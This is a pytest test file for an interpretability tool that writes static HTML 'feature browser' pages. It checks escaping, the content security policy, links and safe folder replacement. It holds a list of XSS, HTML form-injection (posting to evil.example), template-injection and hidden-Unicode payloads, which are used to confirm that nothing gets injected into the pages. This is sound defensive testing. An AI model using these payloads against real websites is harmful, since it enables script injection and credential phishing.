"""The feature browser: right numbers, no injected element, nothing lost, nothing replaced that is not its own."""

import base64
import hashlib
import json
import re
from dataclasses import replace
from html.parser import HTMLParser

import numpy as np
import pytest

from sarmlib.browser import visible, write_browser
from sarmlib.errors import ConfigError, DataError
from sarmlib.interpretation.contexts import Contexts
from sarmlib.interpretation.explainers import Label
from sarmlib.interpretation.judges import KeywordJudge, judge_labels
from tests.planted import APPLE, SORRY, contexts_of, planted_explainer

LINK = re.compile(r"(feature-\d+|pair-\d+|index|reliable|pairs)\.html")
PAYLOADS = [  # texts that try to be more than text
    "<script>document.title='pwned'</script>",
    "\"><svg onload=document.title='pwned'>",
    "' autofocus onfocus='document.title=1' x='",
    "</p></li></ol></main><form action=http://evil.example/><input name=q>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "&lt;script&gt; &#x3C;script&#x3E; &amp;",
    "<!-- -->]]><![CDATA[<script>x</script>]]>",
    "\u202eevil\u202c \u2066isolate\u2069 \u200bzero\u200d \ufeffbom \u00adsoft",
    "null\x00bell\x07escape\x1b[31mred\x7f\x85\u2028line\u2029",
    "\ufe0f\ufe00\U000e0100\u034f\u180b\u17b4",
]


class Page(HTMLParser):
    """Elements, attributes and text of a page."""

    def __init__(self, html: str):
        super().__init__()
        self.elements, self.attributes, self.words = [], [], []
        self.feed(html)
        self.text = "".join(self.words)
        self.links = [value for name, value in self.attributes if name == "href"]

    def handle_starttag(self, tag, attributes):
        self.elements.append(tag)
        self.attributes += attributes

    def handle_data(self, data):
        self.words.append(data)


@pytest.fixture(scope="module")
def made():
    explainer = planted_explainer()
    contexts, labels, judge = explainer.contexts, explainer.explain_all(range(12)), KeywordJudge(explainer.vocabulary)
    return contexts, labels, judge_labels(contexts, labels, judge, n_boot=100, also=("matched", "neighbour"))


@pytest.fixture(scope="module")
def pages(made, tmp_path_factory):
    contexts, labels, judged = made
    index = write_browser(tmp_path_factory.mktemp("out") / "pages", contexts, labels, judged, n_pairs=6,
                          provenance={"scores": "abc123"})
    return {path.name: path.read_text() for path in index.parent.glob("*.html")}


def write_with(made, output, texts):
    """Pages with one of ``texts`` wherever a corpus, a label or a model may write."""
    def one_of(number):
        return texts[number % len(texts)]

    contexts, labels, judged = made
    index = contexts.index.copy()
    index["text"] = [f"{one_of(i)} {text}" for i, text in enumerate(index["text"])]
    index["prompt_text"] = [f"{one_of(int(p[1:]))} {p}" for p in index["prompt_id"]]
    index["domain"] = index["domain"].map({d: one_of(5 + 4 * i) for i, d in enumerate(sorted(set(index["domain"])))})
    marked = [replace(one, text=one_of(one.feature), evidence=tuple({**row, "term": one_of(one.feature + 3)}
                                                                    for row in one.evidence)) for one in labels]
    wrapped = Contexts(contexts.z, index, contexts.w)
    wrapped.split = contexts.split  # other prompts would be split otherwise
    write_browser(output, wrapped, marked, judged.assign(verdict=[one_of(i) for i in range(len(judged))]), n_pairs=40,
                  provenance={"profile": one_of(0), one_of(1): one_of(2)})


def test_no_element_comes_from_the_corpus(made, tmp_path):
    seen = ""
    write_with(made, tmp_path / "hostile", PAYLOADS)
    write_with(made, tmp_path / "harmless", [f"text {i}" for i in range(len(PAYLOADS))])
    for path in (tmp_path / "hostile").glob("*.html"):
        page, harmless = Page(path.read_text()), Page((tmp_path / "harmless" / path.name).read_text())
        assert page.elements == harmless.elements, path.name  # the same corpus without payloads, element by element
        for name, value in page.attributes:
            assert not name.startswith("on") and name not in ("style", "src", "srcdoc", "action"), (path.name, name)
            assert name != "href" or LINK.fullmatch(value), (path.name, value)
        seen += page.text
    for payload in PAYLOADS:
        assert visible(payload) in seen, payload
    assert "⟨U+202E⟩evil⟨U+202C⟩" in seen and visible("naïve 漢字 🙂") == "naïve 漢字 🙂"
    hidden = (r"[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u17b4\u180b\u200b-\u200f\u202a-\u202e"
              r"\u2066-\u2069\ufe00\ufe0f\ufeff\U000e0100]")
    assert not re.search(hidden, seen)


def test_the_policy_allows_one_style_sheet_and_nothing_else(pages):
    for name, html in pages.items():
        policy = re.search(r'Content-Security-Policy" content="([^"]*)"', html)[1]
        css = re.search("<style>(.*?)</style>", html, re.S)[1]
        sha = base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
        assert policy.startswith(f"default-src 'none'; style-src 'sha256-{sha}'"), name
        assert "url(" not in css and "@import" not in css and "<script" not in html and "http://" not in html


def test_the_index_links_every_live_feature_and_every_link_leads_to_a_page(pages, made):
    for html in pages.values():
        assert set(Page(html).links) <= set(pages)
    table = made[0].features().set_index("feature")
    ids = [int(i) for i in re.findall(r'<th scope="row"><a href="feature-(\d+)', pages["index.html"])]
    assert set(ids) == set(table.index[table.kind != "dead"])
    assert table.contribution_sd[ids].is_monotonic_decreasing
    marked = {int(i) for i in re.findall(r'<th scope="row"><a href="feature-(\d+)', pages["reliable.html"])}
    assert marked == set(made[2].feature[made[2].reliable]) and APPLE in marked
    assert pages["index.html"].count("✓ reliable") == len(marked) and "abc123" in pages["index.html"]


def test_a_page_shows_label_histogram_and_examples_before_numbers(pages, made):
    contexts, _, judged = made
    html, row = pages[f"feature-{APPLE}.html"], judged.set_index("feature").loc[APPLE]
    parts = ["<h1>more often: “apple”", "✓ reliable", "<svg", "Where it fires most", "Where its label is wrong",
             "<h2>Numbers", "Words behind"]
    places = [html.index(part) for part in parts]
    assert places == sorted(places)
    wrong = html[places[4]:places[5]].split("<h3>")[1:]
    assert [part.split(",")[0] for part in wrong] == ["Silent"]  # apple, and yet not active: one in 20 (no misses)
    assert all("apple" in text and "z 0 · <span" in text for text in wrong[0].split('class="unit"')[1:])
    assert f"{row.auroc:.3f} [{row.auroc_lo:.3f}, {row.auroc_hi:.3f}]" in html
    shown, z = re.findall(r"z ([\d.]+) \(decile (\d+)", html), contexts.activation(APPLE)
    assert [int(decile) for _, decile in shown] == np.repeat(range(10, 0, -1), 2).tolist()
    values = np.array([float(value) for value, _ in shown])
    assert np.isin(values, [float(f"{value:.3g}") for value in z[z > 0]]).all()
    assert (np.diff(values.reshape(10, 2).min(axis=1)) <= 0).all()


def test_pairs_add_up(pages):
    verdicts = re.findall(r"<h1>Pair \d: decided (\w+)", "".join(pages.values()))
    assert sorted(verdicts) == ["rightly"] * 3 + ["wrongly"] * 3
    page = Page(pages["pair-1.html"]).text
    assert "Exact: the contributions" in page and "Prompt\nprompt" in page
    labelled = [bars for i in range(1, 7) if "“" in (bars := pages[f"pair-{i}.html"].partition("each feature paid")[2])]
    assert labelled and all("features without a label" in bars and ">feature " not in bars for bars in labelled)
    values = [float(v) for v in re.findall(r'class="value">([-+\d.e]+)<', pages["pair-1.html"])]
    assert sum(values[:-1]) == pytest.approx(values[-1], abs=0.02)


def test_safety_responses_are_closed(pages):
    html = pages[f"feature-{SORRY}.html"]
    assert "well, sorry" in html and "<details open" not in html
    assert "well, sorry" not in re.sub(r"<details>.*?</details>", "", html, flags=re.S)


def test_a_folder_is_replaced_only_when_it_was_written_here(made, tmp_path):
    mine, target = tmp_path / "mine", tmp_path / "pages"
    mine.mkdir()
    (mine / "thesis.txt").write_text("years of work")
    for taken in (mine, mine / "thesis.txt"):
        with pytest.raises(ConfigError, match="no feature browser"):
            write_browser(taken, made[0])
    assert (mine / "thesis.txt").read_text() == "years of work"
    with pytest.raises(DataError, match="no feature fires"):
        write_browser(target, contexts_of(made[0].z * 0, made[0].index))
    for _ in range(2):
        write_browser(target, made[0], [Label(APPLE, "apples", kind="llm"), Label(SORRY, "", reason="none")], n_pairs=0)
    assert json.loads((target / "labels.json").read_text()) == {str(APPLE): "apples"}  # for the explain command
    html = (target / f"feature-{APPLE}.html").read_text()
    assert "Label of a chat model." in html and "not judged" in html
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine", "pages"]
